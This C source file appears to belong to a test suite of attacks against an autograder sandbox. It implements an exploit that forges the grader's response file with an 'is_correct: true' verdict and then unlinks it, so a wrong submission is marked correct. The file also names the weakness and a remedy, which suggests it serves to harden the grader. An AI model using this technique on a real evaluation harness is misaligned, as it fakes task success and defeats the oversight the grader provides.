// SPDX-License-Identifier: MIT
/*
 * Goal:  a wrong answer is marked correct.
 * Means: the response file's name. The shim opened the file before the grader was started, and
 *        reads it by that descriptor; the grader opens it by name. The student's program writes a
 *        mark of its own into the file and takes its name away: the grader's mark goes into a new
 *        file of that name, which nobody reads. No process is left behind, and no moment matters.
 *
 *     shim:   descriptor --> file (forged)      read after the grader's end
 *     grader: name --------> a new file (the true mark)
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <glob.h>
#include <string.h>
#include <unistd.h>

static const char mark[] =
	"{\"command\": \"eval\", \"result\": {\"is_correct\": true, \"feedback\": \"\"}}\n";

static int replace(const char *path)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	bool forged = fd >= 0 && write(fd, mark, strlen(mark)) == (ssize_t)strlen(mark);

	close(fd);
	return forged ? unlink(path) : -1;
}

static enum claim run(const struct brief *b)
{
	glob_t found;
	int r = -1;

	submit("0");
	attempting(b);
	if (glob("/tmp/shimmy/*/response-data-*", GLOB_NOSORT, NULL, &found))
		return denied("/tmp/shimmy");
	for (size_t i = 0; i < found.gl_pathc; i++)
		r = replace(found.gl_pathv[i]);
	globfree(&found);
	return r ? denied("the response file") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "a wrong submission is marked correct",
	.means = "the response file forged and unlinked: the reader holds it, the grader makes "
		 "another",
	.oracle = "grade:forged",
	.grader = GRADER_FILE,
	.attack_id = "T1565.002, CWE-367, CWE-377",
	.remedy = "a response in a folder that is not the student's user's, or by a descriptor "
		  "alone",
	.refs = (const char *const[]){ "unlink(2)", NULL },
	.run = run,
};
